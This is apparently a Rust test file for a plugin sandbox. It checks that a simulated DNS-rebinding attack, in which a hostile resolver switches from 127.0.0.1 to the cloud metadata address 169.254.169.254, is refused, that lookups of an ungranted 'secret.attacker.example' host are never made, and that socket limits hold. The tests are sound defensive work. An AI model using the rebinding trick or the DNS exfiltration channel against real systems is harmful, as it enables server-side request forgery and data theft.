//! Names that lead elsewhere a moment later, and how much may be open at once.

use std::collections::HashMap;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{IpAddr, TcpListener};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use plugwright::{Host, Limits};

use super::{Workshop, call, server};

/// Answers each line with itself; says where, and how many connections there were.
fn echo() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, served) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let count = served.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            count.fetch_add(1, Ordering::SeqCst);
            std::thread::spawn(move || {
                let mut line = String::new();
                let _ = BufReader::new(stream.try_clone().unwrap()).read_line(&mut line);
                let _ = stream.write_all(line.as_bytes());
            });
        }
    });
    (port, served)
}

/// The name server is an attacker's: it gives an open address first and one of the house next. What was looked at is what is
/// connected to, by sockets and by requests.
pub(crate) fn rebinding(workshop: &Workshop) {
    let (port, served) = echo();
    let web = server().port();
    let asked: Arc<Mutex<HashMap<String, usize>>> = Arc::default();
    let counts = asked.clone();
    let resolve = move |name: &str| -> std::io::Result<Vec<IpAddr>> {
        let mut asked = counts.lock().unwrap();
        let count = asked.entry(name.to_owned()).or_default();
        *count += 1;
        Ok(vec![if *count % 2 == 1 { "127.0.0.1" } else { "169.254.169.254" }.parse().unwrap()])
    };
    let host = Host::builder().observe(workshop.uses.clone()).resolve_names(resolve).build().unwrap();
    let limits = || Limits { deadline: Duration::from_secs(20), ..Limits::default() };
    let network = format!("{{ to = [\"rebind.example:{port}\"], inside = [\"127.0.0.1\"] }}");
    let http = format!("{{ allow = [\"http://web.example:{web}\"], inside = [\"127.0.0.1\"] }}");
    let plugins = workshop.load_within(limits(), &host, &[("network", &network), ("http", &http)]);
    let count = |name: &str| asked.lock().unwrap().get(name).copied().unwrap_or_default();

    let first = call(&plugins, &format!("echo(\"rebind.example:{port}\", \"hello\")"));
    assert_eq!((first.as_str(), count("rebind.example")), ("ok(\"hello\")", 1));
    let second = call(&plugins, &format!("echo(\"rebind.example:{port}\", \"hello\")"));
    assert!(second.starts_with("err("), "{second}");
    assert_eq!((count("rebind.example"), served.load(Ordering::SeqCst)), (2, 1));

    let first = call(&plugins, &format!("fetch(\"GET\", \"http://web.example:{web}/\", \"\")"));
    assert!(first.starts_with("ok(\"200"), "{first}");
    assert_eq!(count("web.example"), 1);
    workshop.uses.take();
    let second = call(&plugins, &format!("fetch(\"GET\", \"http://web.example:{web}/\", \"\")"));
    assert_eq!((second.as_str(), count("web.example")), ("err(\"the request was not granted\")", 2));
    let refused = workshop.uses.take().into_iter().find(|used| used.capability == "http").unwrap();
    assert!(refused.reason.unwrap().contains("169.254.169.254"));

    // A name that was not granted is not even asked for: to look it up could carry a message out.
    for call_ in
        ["find(\"secret.attacker.example\")", "fetch(\"GET\", \"http://secret.attacker.example/\", \"\")"]
    {
        assert!(call(&plugins, call_).starts_with("err("), "{call_}");
    }
    assert_eq!(asked.lock().unwrap().len(), 2);
}

/// One more than may be open is refused, the plugin goes on, and what was closed is room again.
pub(crate) fn open_sockets_have_an_end(workshop: &Workshop) {
    let (port, _) = echo();
    let limits = Limits { sockets: 4, deadline: Duration::from_secs(20), ..Limits::default() };
    let scope = format!("[\"127.0.0.1:{port}\"]");
    let plugins = workshop.load_within(limits, &workshop.host, &[("network", &scope)]);
    workshop.uses.take();
    for _ in 0..3 {
        assert_eq!(call(&plugins, &format!("open(\"127.0.0.1:{port}\", 10)")), "4");
    }
    let uses = workshop.uses.take();
    let refused = uses.iter().find(|used| !used.allowed).unwrap();
    assert_eq!(refused.what, "open a socket");
    assert_eq!(refused.reason.as_deref(), Some("4 are open already, as many as may be at once"));
    // Another plugin has places of its own.
    let neighbour = workshop.load(&[("network", &scope)]);
    assert_eq!(call(&neighbour, &format!("open(\"127.0.0.1:{port}\", 10)")), "10");
}
